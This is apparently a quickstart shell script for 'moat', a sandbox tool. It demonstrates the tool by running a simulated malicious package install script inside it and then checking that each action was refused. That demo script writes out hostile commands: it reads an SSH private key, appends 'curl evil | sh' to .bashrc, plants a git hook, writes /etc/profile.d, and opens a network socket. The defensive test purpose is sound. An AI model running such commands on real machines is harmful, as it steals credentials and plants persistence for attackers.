#!/usr/bin/env bash
# The quickstart: installs dependencies (Debian 12, root), builds moat, and runs the main job as a
# demo: a hostile "install script" under `moat run`, whose every forbidden action is refused.
set -euo pipefail
root="$(cd "$(dirname "$0")/.." && pwd)"
if [ "$(id -u)" -eq 0 ]; then bash "$root/scripts/install-deps.sh"; fi
MOAT_BUILD_DIR="$root/build" bash "$root/scripts/build.sh" >/dev/null
moat="$root/build/cli/moat"

demo=$(mktemp -d /tmp/moat-demo-XXXXXX)
trap 'rm -rf "$demo"' EXIT
home="$demo/home"
project="$demo/project"
mkdir -p "$home/.ssh" "$project"
echo "SECRET-SSH-KEY-$$" > "$home/.ssh/id_ed25519"
echo "# my bashrc" > "$home/.bashrc"
git -C "$project" init -q
cat > "$project/postinstall.sh" <<'SCRIPT'
#!/bin/sh
# What a malicious package's install script tries.
try() { if sh -c "$2" >/dev/null 2>&1; then echo "  ALLOWED  $1"; else echo "  refused  $1"; fi; }
try "write the project (node_modules/x)"   'mkdir -p node_modules && echo ok > node_modules/x'
try "read ~/.ssh/id_ed25519"                'cat ~/.ssh/id_ed25519'
try "append to ~/.bashrc"                   'echo "curl evil | sh" >> ~/.bashrc'
try "drop .git/hooks/pre-commit"            'echo evil > .git/hooks/pre-commit'
try "write /etc/profile.d/x.sh"             'echo evil > /etc/profile.d/x.sh'
try "see the host's processes (pid HOSTPID)" 'test -d /proc/HOSTPID'
try "connect to the network"                'exec 3<>/dev/tcp/127.0.0.53/53'
try "start a daemon (sleep 300)"            'setsid sh -c "sleep 300" & sleep 0.1; exit 0'
SCRIPT
sed -i "s/HOSTPID/$$/g" "$project/postinstall.sh"
chmod +x "$project/postinstall.sh"

echo "$ moat run -- ./postinstall.sh     (in $project, HOME=$home)"
cd "$project"
HOME="$home" "$moat" run -- bash ./postinstall.sh || true
echo
echo "Checked from outside the sandbox:"
grep -q evil "$home/.bashrc" && echo "  ~/.bashrc CHANGED" || echo "  ~/.bashrc unchanged"
[ -e "$project/.git/hooks/pre-commit" ] && echo "  hook PRESENT" || echo "  no .git/hooks/pre-commit"
[ -e "$project/node_modules/x" ] && echo "  node_modules/x written (allowed)" || true
pgrep -x -f "sleep 300" >/dev/null && echo "  a daemon SURVIVED" || echo "  no process survived"
echo
echo "What the base profile allows, in words: $moat explain -p base"
